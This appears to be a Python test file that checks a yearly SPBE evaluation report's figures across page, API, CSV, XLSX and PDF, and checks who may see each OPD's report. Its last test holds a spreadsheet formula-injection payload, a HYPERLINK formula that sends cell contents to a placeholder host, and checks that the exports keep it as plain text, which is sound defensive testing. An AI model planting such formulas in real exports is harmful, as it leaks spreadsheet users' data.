"""The yearly evaluation report on a demo kabupaten's whole year: the evaluation opened, the OPDs
answering (some in time, some not), the outcomes decided at the close, and the report's figures
checked against the database: on the page, in the API, in the CSV and XLSX read back with csv and
openpyxl, and in the PDF's text read back with pypdfium2."""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from datetime import UTC, date, datetime, timedelta
from html import unescape
from typing import Any

import pypdfium2
from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlmodel import select

from gate.jobs.local import LocalPool
from gate.models import (
    Application,
    AssessmentRecord,
    Evaluation,
    EvaluationItem,
    EvaluationOutcome,
    Opd,
    Probe,
)
from gate.services.reporting import failed_rules_of
from tests.service.conftest import ADMIN, DEV_DINKES, DEV_DISDIK, REVIEWER, World
from tests.service.test_evaluation import _catalogue, _items, _wait_assessed
from tests.service.test_pages import Visitor

NEXT = date.today().year + 1
YEAR = NEXT
BEFORE = YEAR - 1


def _text(html: str) -> str:
    return re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]+>", " ", html)))


def _pdf_text(pdf: bytes) -> str:
    document = pypdfium2.PdfDocument(pdf)
    try:
        return "\n".join(page.get_textpage().get_text_range() for page in document)
    finally:
        document.close()


def _probes(world: World, app_id: int, pattern: str) -> None:
    """The deployment's record this year, one probe per character: ``+`` answered, ``-`` not."""
    with world.session() as s:
        app = s.get(Application, app_id)
        assert app is not None and app.approved_submission_id is not None
        now = datetime.now(UTC)
        for slot, mark in enumerate(pattern, 1):
            s.add(
                Probe(
                    application_id=app_id,
                    submission_id=app.approved_submission_id,
                    slot=slot,
                    at=now - timedelta(days=len(pattern) - slot),
                    url="https://layanan.contohkab.go.id/v1/health",
                    ok=mark == "+",
                )
            )
        s.commit()


def _previous_year(world: World, apps: dict[str, int]) -> None:
    """Last year's evaluation, as it was recorded: fewer applications, lower levels."""
    with world.session() as s:
        evaluation = Evaluation(
            year=BEFORE, deadline=date(BEFORE, 3, 31), rules={}, closed_at=datetime(BEFORE, 4, 30, tzinfo=UTC)
        )
        s.add(evaluation)
        s.flush()
        for key, level, outcome in (("rapi", 3, "berkelanjutan"), ("tanpa_anggaran", 1, "perlu_tindakan")):
            app = s.get(Application, apps[key])
            assert app is not None and app.approved_submission_id is not None
            s.add(
                EvaluationItem(
                    evaluation_id=evaluation.id or 0,
                    application_id=apps[key],
                    submission_id=app.approved_submission_id,
                    level=level,
                    outcome=EvaluationOutcome(outcome),
                    availability=90.0,
                )
            )
        s.commit()


def _a_year(world: World) -> dict[str, int]:
    """Four catalogued applications in two OPDs, evaluated: Dinkes answers for both of its own in
    time, Disdik retires one and never answers for the other; closed."""
    budget = [{"tahun": NEXT, "sumber": "APBD"}]
    apps = {
        "rapi": _catalogue(world, DEV_DINKES, "Layanan Rapi", anggaran=budget),
        "tanpa_anggaran": _catalogue(world, DEV_DINKES, "Layanan Tanpa Anggaran", anggaran=[2020]),
        "diam": _catalogue(world, DEV_DISDIK, "Layanan Diam", anggaran=budget),
        "pensiun": _catalogue(world, DEV_DISDIK, "Layanan Pensiun", anggaran=budget),
    }
    _probes(world, apps["rapi"], "+" * 19 + "-")  # 95.0 %
    _probes(world, apps["diam"], "++-+-+++-+")  # 70.0 %
    _previous_year(world, apps)
    admin = world.client(ADMIN)
    deadline = date.today() + timedelta(days=14)
    with LocalPool(world.settings, workers=2, poll_s=0.2):
        r = admin.post("/api/v1/evaluations", json={"year": YEAR, "deadline": deadline.isoformat()})
        assert r.status_code == 201, r.text
        _wait_assessed(world, 4)
        items = _items(world)
        dinkes, disdik = world.client(DEV_DINKES), world.client(DEV_DISDIK)
        for key, client, body in (
            ("rapi", dinkes, {}),
            ("tanpa_anggaran", dinkes, {"anggaran": [2020]}),
            ("pensiun", disdik, {"lifecycle": "retired"}),
        ):
            answered = client.post(f"/api/v1/evaluations/items/{items[apps[key]].id}/confirmation", json=body)
            assert answered.status_code == 200, answered.text
        _wait_assessed(world, 7)
    assert admin.post(f"/api/v1/evaluations/{YEAR}/close").status_code == 200
    return apps


def _expected(world: World, opd_id: int | None = None) -> dict[str, Any]:
    """The report's figures, counted straight from the database."""
    with world.session() as s:
        evaluation = s.exec(select(Evaluation).where(Evaluation.year == YEAR)).one()
        rows = s.exec(
            select(EvaluationItem, Application)
            .join(Application, Application.id == EvaluationItem.application_id)  # type: ignore[arg-type]
            .where(EvaluationItem.evaluation_id == evaluation.id)
        ).all()
        rows = [(i, a) for i, a in rows if opd_id is None or a.opd_id == opd_id]
        failed: Counter[str] = Counter()
        for item, _ in rows:
            record = s.get(AssessmentRecord, item.assessment_id)
            assert record is not None
            failed.update(failed_rules_of(record.report))
        probed = [i.availability for i, _ in rows if i.availability is not None]
        levels = [i.level for i, _ in rows if i.level is not None]
        return {
            "total": len(rows),
            "levels": Counter(i.level for i, _ in rows),
            "outcomes": Counter(i.outcome.value for i, _ in rows),
            "matrix": Counter((i.level, i.outcome.value) for i, _ in rows),
            "availability": {a.nama: i.availability for i, a in rows},
            "mean_availability": round(sum(probed) / len(probed), 2) if probed else None,
            "mean_level": round(sum(levels) / len(levels), 2),
            "failed": failed,
            "names": {a.nama for _, a in rows},
        }


def test_a_whole_year_reported(world: World) -> None:
    apps = _a_year(world)
    expected = _expected(world)
    # What the year did: one sustained, one action, one retired and one unanswered (both lapse).
    assert expected["outcomes"] == {"berkelanjutan": 1, "perlu_tindakan": 1, "tidak_berkelanjutan": 2}
    assert expected["availability"]["Layanan Rapi"] == 95.0 and expected["availability"]["Layanan Diam"] == 70.0
    assert expected["failed"]["SUS006"] == 1  # the application without next year's budget

    # The API's figures are the database's.
    api = world.client(REVIEWER).get(f"/api/v1/reports/evaluations/{YEAR}").json()
    assert api["applications"] == 4
    assert api["outcomes"] == {**{o.value: 0 for o in EvaluationOutcome}, **expected["outcomes"]}
    assert {
        (c["level"], c["outcome"]): c["applications"] for c in api["by_level_and_outcome"] if c["applications"]
    } == (dict(expected["matrix"]))
    assert api["mean_availability"] == expected["mean_availability"] == 82.5
    assert api["below_availability"] == 1  # 70 % is under the profile's 95 %
    assert api["availability_bands"]["95-99"] == 1 and api["availability_bands"]["0-90"] == 1
    assert api["availability_bands"]["tidak_dipantau"] == 2
    assert {r["rule"]: r["applications"] for r in api["failed_rules"]} == dict(expected["failed"].most_common(10))
    assert [t["year"] for t in api["trend"]] == [BEFORE, YEAR]
    assert api["trend"][0]["applications"] == 2 and api["trend"][0]["mean_level"] == 2.0
    assert api["mean_level"] == expected["mean_level"]

    # The page shows the same figures, each linking to its applications.
    reviewer = Visitor(world, REVIEWER)
    html = reviewer.get(f"/laporan/{YEAR}")
    text = _text(html)
    assert f"Laporan Evaluasi Tahunan {YEAR}" in text and "Seluruh kabupaten" in text
    for (level, outcome), n in expected["matrix"].items():
        href = f"/laporan/{YEAR}/aplikasi?tingkat={level}&amp;hasil={outcome}"
        assert f'<a href="{href}">{n}</a>' in html, href
        listed = reviewer.get(unescape(href))
        assert listed.count("<tr>") - 1 == n  # the header row
    lapsed = reviewer.get(f"/laporan/{YEAR}/aplikasi?hasil=tidak_berkelanjutan")
    assert "Layanan Diam" in lapsed and "Layanan Pensiun" in lapsed and "Layanan Rapi" not in lapsed
    for rule, n in expected["failed"].most_common(3):
        assert re.search(rf'{rule}</td><td>[^<]+</td><td class="num"><a href="[^"]+">{n}</a>', html), rule
    assert f"dibanding {BEFORE}" in text and "82.50%" in text
    assert html.count("<svg") == 5  # levels, outcomes, availability, rules, trend: each beside its table
    assert "PermenPANRB" in text or "PANRB Nomor 59 Tahun 2020" in text
    assert '<table class="per-opd">' in html and "Dinas Kesehatan" in html

    # CSV: one row per application; counting it gives the same figures.
    csv_r = reviewer.client.get(f"/laporan/{YEAR}/csv")
    assert csv_r.status_code == 200 and csv_r.headers["content-type"].startswith("text/csv")
    assert f"evaluasi-spbe-{YEAR}-kabupaten.csv" in csv_r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(csv_r.content.decode("utf-8-sig"))))
    assert {r["Aplikasi"] for r in rows} == expected["names"]
    assert Counter(r["Hasil"] for r in rows) == expected["outcomes"]
    assert Counter((int(r["Tingkat"]), r["Hasil"]) for r in rows) == expected["matrix"]
    assert {r["Aplikasi"]: float(r["Ketersediaan (%)"]) if r["Ketersediaan (%)"] else None for r in rows} == (
        expected["availability"]
    )
    assert Counter(rule for r in rows for rule in r["Aturan gagal"].split()) == expected["failed"]

    # XLSX: one sheet per table, read back with openpyxl.
    xlsx = reviewer.client.get(f"/laporan/{YEAR}/xlsx")
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.content), read_only=True)
    sheets = {name: [list(r) for r in book[name].iter_rows(values_only=True)] for name in book.sheetnames}
    assert list(sheets) == [
        "Ringkasan",
        "Tingkat dan hasil",
        "Ketersediaan",
        "Aturan gagal",
        "Per OPD",
        "Tren",
        "Aplikasi",
    ]
    matrix = sheets["Tingkat dan hasil"]
    header = matrix[0]
    for (level, outcome), n in expected["matrix"].items():
        line = next(r for r in matrix if str(r[0]).startswith(f"{level} ·"))
        word = {"berkelanjutan": "Berkelanjutan", "perlu_tindakan": "Perlu tindakan"}.get(
            outcome, "Tidak berkelanjutan"
        )
        assert line[header.index(word)] == n
    summary = {r[0]: r[1] for r in sheets["Ringkasan"][1:]}
    assert summary["Aplikasi dievaluasi"] == 4 and summary["Rerata ketersediaan (%)"] == 82.5
    failed = {r[0]: r[2] for r in sheets["Aturan gagal"][1:]}
    assert failed == dict(expected["failed"].most_common(10))
    trend = sheets["Tren"]
    assert [r[0] for r in trend[1:]] == [BEFORE, YEAR]
    per_app = sheets["Aplikasi"]
    assert len(per_app) == 5 and {r[2] for r in per_app[1:]} == expected["names"]

    # PDF: the same template, printed; its text carries the figures.
    pdf = reviewer.client.get(f"/laporan/{YEAR}/pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    printed = re.sub(r"\s+", " ", _pdf_text(pdf.content))
    assert f"Laporan Evaluasi Tahunan {YEAR}" in printed and "Seluruh kabupaten" in printed
    assert "82.50%" in printed and "SUS006" in printed and "Dinas Kesehatan" in printed
    assert "Keluar" not in printed  # no menu nor sign-out button in print
    assert apps


def test_an_opd_report_and_who_may_see_it(world: World) -> None:
    _a_year(world)
    with world.session() as s:
        dinkes = s.exec(select(Opd).where(Opd.nama == "Dinas Kesehatan")).one().id
        disdik = s.exec(select(Opd).where(Opd.nama == "Dinas Pendidikan")).one().id
    expected = _expected(world, dinkes)
    dev = Visitor(world, DEV_DINKES)
    own = dev.get(f"/laporan/{YEAR}?opd={dinkes}")
    text = _text(own)
    assert "Dinas Kesehatan" in text and expected["names"] == {"Layanan Rapi", "Layanan Tanpa Anggaran"}
    assert "Layanan Diam" not in dev.get(f"/laporan/{YEAR}/aplikasi?opd={dinkes}")
    assert '<table class="per-opd">' not in own
    rows = list(csv.DictReader(io.StringIO(dev.client.get(f"/laporan/{YEAR}/csv?opd={dinkes}").text.lstrip("\ufeff"))))
    assert {r["Aplikasi"] for r in rows} == expected["names"]
    api = world.client(DEV_DINKES).get(f"/api/v1/reports/evaluations/{YEAR}", params={"opd_id": dinkes}).json()
    assert api["applications"] == 2 and api["outcomes"]["berkelanjutan"] == 1
    # The kabupaten's report is Diskominfo's; another OPD's is not found.
    dev.get(f"/laporan/{YEAR}", 403)
    for path in (
        f"/laporan/{YEAR}?opd={disdik}",
        f"/laporan/{YEAR}/csv?opd={disdik}",
        f"/laporan/{YEAR}/pdf?opd={disdik}",
    ):
        dev.get(path, 404)
    dev.get(f"/laporan/{YEAR}/xlsx?opd={disdik}", 404)
    dev.get(f"/laporan/{YEAR}/aplikasi?opd={disdik}", 404)
    dev_api = world.client(DEV_DINKES)
    assert dev_api.get(f"/api/v1/reports/evaluations/{YEAR}").status_code == 403
    assert dev_api.get(f"/api/v1/reports/evaluations/{YEAR}", params={"opd_id": disdik}).status_code == 404
    # The reviewer sees both, and a year without an evaluation is not found.
    reviewer = Visitor(world, REVIEWER)
    assert "Layanan Diam" in reviewer.get(f"/laporan/{YEAR}/aplikasi?opd={disdik}")
    reviewer.get(f"/laporan/{YEAR + 5}", 404)
    reviewer.get(f"/laporan/{YEAR}?opd=999999", 404)
    assert f"/laporan/{YEAR}?opd={dinkes}" in dev.get("/laporan")


def test_the_dashboard_shows_the_evaluation(world: World) -> None:
    _a_year(world)
    board = Visitor(world, REVIEWER).get("/dasbor")
    assert f"Evaluasi tahunan {YEAR}" in board
    assert f'<a class="big" href="/laporan/{YEAR}/aplikasi?hasil=tidak_berkelanjutan">2</a>' in board
    assert f'href="/laporan/{YEAR}"' in board


def test_names_typed_by_users_stay_text_in_spreadsheets() -> None:
    from gate.web.views.yearly_report import Table, csv_text, xlsx_bytes

    hostile = '=HYPERLINK("https://contoh.invalid/?"&A1,"klik")'
    table = Table("Aplikasi", ("Aplikasi", "Tingkat"), ((hostile, 2), ("+62 Layanan", None), ("Biasa", 3)))
    rows = list(csv.reader(io.StringIO(csv_text(table).lstrip("\ufeff"))))
    assert rows[1] == ["'" + hostile, "2"] and rows[2] == ["'+62 Layanan", ""] and rows[3] == ["Biasa", "3"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes([table])))["Aplikasi"]
    assert sheet["A2"].value == hostile and sheet["A2"].data_type == "s"  # text, not a formula
    assert sheet["B2"].value == 2 and sheet["B2"].data_type == "n"
